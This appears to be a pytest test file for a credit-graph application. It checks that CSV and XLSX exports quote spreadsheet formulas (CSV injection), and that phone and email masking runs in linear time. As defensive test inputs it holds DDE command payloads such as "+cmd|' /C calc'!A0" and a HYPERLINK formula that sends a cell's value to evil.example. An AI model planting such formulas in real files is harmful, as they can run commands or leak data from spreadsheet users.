"""Exports never carry live spreadsheet formulas (OWASP CSV injection), and masking stays linear-safe.

Enterprise names from :data:`tests.hostile_strings.FORMULAS` go through a real
analysis on a real embedded graph and out to CSV and XLSX (every sheet), through
the app's download and through the reject report of a real load. Every text cell
that a spreadsheet would run (a leading ``= + - @``, tab or carriage return,
their full-width forms, or any of them after leading blanks) must come out with
a leading ``'``; nothing else may change, and numbers stay numeric cells.
"""
from __future__ import annotations

import csv
import dataclasses
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from creditgraph.queries import export, neighborhood
from creditgraph.queries.labels import column_label
from creditgraph.queries.result import EvidenceBuilder, finish
from creditgraph.queries.testing import toy_store
from tests.hostile_strings import FORMULAS, HOSTILE

# what a spreadsheet may take as the start of a formula (checked after leading blanks too)
TRIGGER = re.compile(r"^(?:[\t\r]|\s*[=+\-@＝＋－＠])")
PLAIN_NUMBER = re.compile(r"^[+-]?\d+(?:\.\d+)?(?:[eE][+-]?\d+)?$")
PERSON = "ID:zs"


def h(name: str, analysis: str = "neighborhood") -> str:
    """The export's (bilingual) header of a result column."""
    return column_label(name, analysis)


def is_live(cell: str) -> bool:
    """Would a spreadsheet treat this text cell as a formula (or a DDE call)?"""
    return bool(TRIGGER.match(cell)) and not PLAIN_NUMBER.match(cell)


def enterprise_uid(i: int) -> str:
    return f"E{i:03d}"


@pytest.fixture(scope="module")
def graph():
    nodes = [("Person", PERSON, {"name": "=1+2", "id_masked": "330503********123X"})]
    rels = []
    for i, name in enumerate(FORMULAS):
        nodes.append(("Enterprise", enterprise_uid(i), {"name": name, "region": "330503"}))
        rels.append(("LEGAL_REP", PERSON, enterprise_uid(i), {"position": "@SUM(1+1)"}))
    s = toy_store(nodes, rels)
    yield s
    s.close()


@pytest.fixture(scope="module")
def result(graph):
    r = neighborhood(graph, PERSON, hops=1)
    assert set(r.table["name"]) >= set(FORMULAS)  # the hostile names really are in the table
    return r


@pytest.fixture(scope="module")
def numbers_result():
    """A real AnalysisResult whose table mixes formula text with negative and positive numbers."""
    b = EvidenceBuilder()
    b.node("E1", "Enterprise", name="-2+3+cmd|' /C calc'!A0")
    b.path(["E1"], [])
    table = pd.DataFrame({"uid": ["E1", "E2", "E3"], "name": ["=1+2", "-5", "普通公司"],
                          "delta": [-3, 0, 7], "ratio": [-0.25, 1.5, float("nan")]})
    return finish("demo", {"q": "=1+2", "n": -4}, table, {0: b.build(), 1: b.build(), 2: b.build()})


def csv_cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:  # newline="": a CR inside a field stays a CR
        return list(csv.reader(f))


def xlsx_values(path: Path) -> dict[str, list[list]]:
    """Every sheet's cell values; OOXML's escape of a carriage return (``_x000D_``) read back as CR, as Excel does."""
    wb = openpyxl.load_workbook(path)

    def value(v):
        return v.replace("_x000D_", "\r") if isinstance(v, str) else v

    return {ws.title: [[value(c.value) for c in row] for row in ws.iter_rows()] for ws in wb.worksheets}


def assert_no_formula_elements(path: Path) -> None:
    with zipfile.ZipFile(path) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
        assert sheets
        for name in sheets:
            xml = z.read(name).decode("utf-8")
            assert "<f>" not in xml and "<f " not in xml, f"{name} holds a formula"


def test_the_shared_list_is_big_and_holds_the_owasp_formulas():
    assert len(set(HOSTILE)) >= 100
    assert {"=1+2", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "＝1+2"} <= set(FORMULAS)
    assert set(FORMULAS) <= set(HOSTILE)


def test_csv_export_quotes_every_formula_and_keeps_the_rest(result, tmp_path):
    rows = csv_cells(export(result, tmp_path / "r.csv"))
    header, body = rows[0], rows[1:]
    for row in rows:
        for cell in row:
            assert not is_live(cell), repr(cell)
    names = [r[header.index(h("name"))] for r in body]
    for name in FORMULAS:
        expected = "'" + name if is_live(name) else name
        assert expected in names, (name, names)
    # nothing else changed: the table's own values, only quoted where live
    assert [int(r[header.index(h("row_id"))]) for r in body] == result.table["row_id"].tolist()
    assert [int(r[header.index(h("hops"))]) for r in body] == result.table["hops"].tolist()


def test_xlsx_export_has_no_formula_in_any_sheet(result, tmp_path):
    path = export(result, tmp_path / "r.xlsx")
    assert_no_formula_elements(path)
    sheets = xlsx_values(path)
    assert set(sheets) == {"结果", "证据", "参数"}
    for title, rows in sheets.items():
        for row in rows:
            for v in row:
                if isinstance(v, str):
                    assert not is_live(v), (title, repr(v))
    header, *body = sheets["结果"]
    names = [r[header.index(h("name"))] for r in body]
    for name in FORMULAS:
        assert ("'" + name if is_live(name) else name) in names
    # the evidence sheet starts each path with the centre, the person "=1+2" (name masked: "=**2"): quoted, not run
    paths = [r[1] for r in sheets["证据"][1:]]
    assert paths and all(p.startswith("'=**2(自然人)") for p in paths)
    # numbers are numeric cells, not text
    assert all(isinstance(r[header.index(h("hops"))], int) for r in body)
    assert all(isinstance(r[header.index(h("row_id"))], int) for r in body)


def test_negative_numbers_stay_numbers_and_params_are_neutral(numbers_result, tmp_path):
    rows = csv_cells(export(numbers_result, tmp_path / "n.csv"))
    header = rows[0]
    assert [r[header.index("delta")] for r in rows[1:]] == ["-3", "0", "7"]
    assert [r[header.index("ratio")] for r in rows[1:]] == ["-0.25", "1.5", ""]
    assert [r[header.index(h("name", "demo"))] for r in rows[1:]] == ["'=1+2", "-5", "普通公司"]
    assert rows[1][header.index(h("evidence", "demo"))].startswith("'-2+3+cmd")

    path = export(numbers_result, tmp_path / "n.xlsx")
    assert_no_formula_elements(path)
    sheets = xlsx_values(path)
    header, *body = sheets["结果"]
    assert [r[header.index("delta")] for r in body] == [-3, 0, 7]
    assert [r[header.index("ratio")] for r in body][:2] == [-0.25, 1.5]
    assert [r[header.index(h("name", "demo"))] for r in body] == ["'=1+2", "-5", "普通公司"]
    params = [list(r) for r in sheets["参数"]]
    assert ["参数 Parameter", "n", -4, "n"] in params and ["参数 Parameter", "q", "'=1+2", "q"] in params
    for row in sheets["参数"] + sheets["证据"]:
        for v in row:
            assert not (isinstance(v, str) and is_live(v)), repr(v)


def test_the_apps_download_is_neutral_too(result):
    from creditgraph.app.common import export_bytes

    data = export_bytes(result, "xlsx")
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in z.read(name).decode("utf-8")
    text = export_bytes(result, "csv").decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            assert not is_live(cell), repr(cell)


def test_the_openpyxl_writer_never_writes_a_formula(result, tmp_path):
    """The fallback engine, used where xlsxwriter is missing, is just as safe."""
    from creditgraph.queries.export import write_sheets

    frame = pd.DataFrame({"name": ["=1+2", "  =cmd|'/C calc'!A0", "ok"], "n": [-1, 2, 3]})
    path = write_sheets(tmp_path / "o.xlsx", {"s": frame}, engine="openpyxl")
    assert_no_formula_elements(path)
    assert xlsx_values(path)["s"] == [["name", "n"], ["'=1+2", -1], ["'  =cmd|'/C calc'!A0", 2], ["ok", 3]]


def test_reject_report_of_a_real_load_is_neutral(tmp_path):
    from creditgraph.graph.identifiers import make_uscc
    from creditgraph.etl.pipeline import run_load
    from creditgraph.graph.config import load_settings

    good = make_uscc("91330100MA2B00005")
    bad_codes = ["=1+2", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]
    src = tmp_path / "src"
    src.mkdir()
    out = io.StringIO()
    w = csv.writer(out, lineterminator="\n")
    w.writerow(["uscc", "name", "kind", "status", "founded", "dissolved", "capital", "address", "region",
                "legal_rep", "phone", "updated_at"])
    w.writerow([good, "正常有限公司", "有限责任公司", "存续", "2019-02-01", "", "10", "某地", "", "某人", "", "2024-01-01"])
    for code in bad_codes:
        w.writerow([code, "坏代码有限公司", "有限责任公司", "存续", "2019-02-01", "", "10", "某地", "", "某人", "", "2024-01-01"])
    w.writerow([make_uscc("91330100MA2B00006"), '=HYPERLINK("http://evil.example/?x="&A1,"click")公司', "有限责任公司",
                "存续", "=NOW()", "", "10", "某地", "", "某人", "", "2024-01-01"])
    (src / "enterprises.csv").write_text(out.getvalue(), encoding="utf-8")
    settings = dataclasses.replace(load_settings(), store="embedded", db_path=tmp_path / "graph", id_key="test-key")
    rep = run_load(src, "canonical", settings)

    rows = csv_cells(Path(rep.run_dir) / "rejects.csv")
    header, body = rows[0], rows[1:]
    values = [r[header.index("value")] for r in body]
    for code in bad_codes:
        assert "'" + code in values, (code, values)
    assert "'=NOW()" in values
    for row in rows:
        for cell in row:
            assert not is_live(cell), repr(cell)
    assert all(re.fullmatch(r"\d+", r[header.index("row")]) for r in body)
    # the Parquet copy is for programs, not spreadsheets: it keeps the source values as they were
    raw = pd.read_parquet(Path(rep.run_dir) / "rejects.parquet")
    assert set(bad_codes) | {"=NOW()"} <= set(raw["value"])


# ---------------------------------------------------------------- masking: long and adversarial texts

def reference_mask_text(text: str) -> str:
    """The former three-pass masker (quadratic on long runs; fine on short texts): the oracle for the rewrite."""
    from creditgraph.graph.masking import masked_email as _mask_email, masked_phone as _mask_phone

    email = re.compile(r"[A-Za-z0-9._%+-]+@[A-Za-z0-9.-]+\.[A-Za-z]{2,}")
    mobile = re.compile(r"(?<![0-9A-Za-z])(?:\+?86[- ]?)?1[3-9]\d{9}(?![0-9A-Za-z])")
    landline = re.compile(r"(?<![0-9A-Za-z])0\d{2,3}-\d{7,8}(?![0-9A-Za-z])")
    text = email.sub(lambda m: _mask_email(m.group(0)), text)
    text = mobile.sub(lambda m: _mask_phone(m.group(0)), text)
    return landline.sub(lambda m: _mask_phone(m.group(0)), text)


@pytest.mark.parametrize("filler", ["x" * 200_000, "张" * 200_000, "a." * 100_000, "1" * 200_000, "a@" * 100_000],
                         ids=["letters", "cjk", "dots", "digits", "at-signs"])
def test_masking_finds_every_phone_and_email_in_a_long_text(filler):
    from creditgraph.queries.export import mask_text

    text = ("13912345678 " + filler + " 电话13812345678，13712345678;0571-88886666 "
            + filler + " zhang.san@example.com,li@example.org " + filler + " 13612345678")
    out = mask_text(text)
    for clear in ("13912345678", "13812345678", "13712345678", "13612345678", "88886666", "zhang.san@", "li@example"):
        assert clear not in out
    for masked in ("139****5678", "138****5678", "137****5678", "136****5678", "057*****6666",
                   "z***@example.com", "l***@example.org"):
        assert masked in out
    assert out.startswith("139****5678 ") and out.endswith(" 136****5678")
    assert out.count(filler) == 3  # the filler itself untouched


def test_an_email_after_a_long_run_of_local_characters_is_still_masked():
    from creditgraph.queries.export import mask_text

    assert mask_text("x" * 100_000 + "@example.com") == "x***@example.com"
    assert mask_text("张" + "x" * 50_000 + "@example.com张") == "张x***@example.com张"
    assert mask_text("a@b.cc.d@e.ff") == reference_mask_text("a@b.cc.d@e.ff")


def test_adjacent_and_edge_matches_agree_with_the_former_masker():
    from creditgraph.queries.export import mask_text

    cases = ["13912345678", "13912345678@qq.com", "+8613912345678", "86-13912345678", "_13912345678_",
             "x13912345678", "139123456789", "a@example.com;b@example.com", "a@example.coma@example.com",
             "0571-88886666/0571-88886667", "邮箱:A.B-C_D%E+F@Sub.Example.COM。", "@@@", "a@b", "a@b.c", ".@x.yy",
             "13912345678 13812345678", "tel:013912345678", "z***@example.com", "139****5678"]
    for text in cases:
        assert mask_text(text) == reference_mask_text(text), text


def test_random_short_texts_agree_with_the_former_masker():
    from hypothesis import given, settings, strategies as st

    from creditgraph.queries.export import mask_text

    alphabet = st.sampled_from(list("abz019386-_.@+% 张,") + ["13912345678", "0571-", "example.com", "@q.cn"])

    @settings(max_examples=400, deadline=None, derandomize=True)
    @given(st.lists(alphabet, max_size=25).map("".join))
    def agree(text):
        assert mask_text(text) == reference_mask_text(text)

    agree()


def test_mask_cells_masks_text_cells_and_leaves_others():
    from creditgraph.app.masking import mask_cells

    df = pd.DataFrame({"t": ["电话13912345678", None, "无", "x" * 50_000 + " a@example.com"],
                       "n": [13912345678, 2, 3, 4], "o": [["13912345678"], "b@example.com", 5, None]})
    out = mask_cells(df)
    assert out["t"].tolist()[0] == "电话139****5678" and out["t"].tolist()[2] == "无"
    assert pd.isna(out["t"].tolist()[1])
    assert out["t"].tolist()[3].endswith(" a***@example.com")
    assert out["n"].tolist() == [13912345678, 2, 3, 4]           # numbers are not text
    assert out["o"].tolist()[1] == "b***@example.com" and out["o"].tolist()[0] == ["13912345678"]
    assert df["t"].tolist()[0] == "电话13912345678"                 # the input is not changed
